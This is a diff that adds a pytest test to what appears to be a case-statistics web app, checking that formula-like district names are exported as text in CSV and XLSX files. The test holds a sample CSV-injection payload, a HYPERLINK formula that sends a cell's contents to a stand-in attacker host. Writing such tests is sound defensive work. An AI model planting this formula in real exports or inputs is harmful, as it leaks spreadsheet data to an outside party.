@@ -230,3 +230,25 @@ def test_hotspots_of_a_long_period_are_its_last_month(login, cases):
     html = login("supervisor1").get("/stats/", query_string=query).text
     assert "2026-10-31 – 2026-11-30" in html
     assert cell(html, "total", "received") == "6"  # the table is the whole period
+
+
+FORMULA_DISTRICT = '=HYPERLINK("http://evil.example/?leak="&A1,"区")'
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_a_district_typed_as_a_formula_stays_text_in_the_exports(login, make_case, prefix):
+    """A district is free text (the citizens' report too): in a spreadsheet it must not
+    become a formula (CSV injection)."""
+    district = prefix + FORMULA_DISTRICT[1:]
+    make_case("dispatched", district=district)
+    query = {**NOV, "by": "district"}
+    supervisor = login("supervisor1")
+    rows = list(
+        csv.reader(io.StringIO(supervisor.get("/stats/export.csv", query_string=query).text))
+    )
+    assert "'" + district in [row[0] for row in rows]  # a leading quote: Excel shows text
+    answer = supervisor.get("/stats/export.xlsx", query_string=query)
+    book = openpyxl.load_workbook(io.BytesIO(answer.data))
+    labels = [c for c in book.worksheets[0]["A"]]
+    shown = next(c for c in labels if c.value and "HYPERLINK" in str(c.value))
+    assert shown.data_type == "s" and shown.value == district  # a string, not a formula
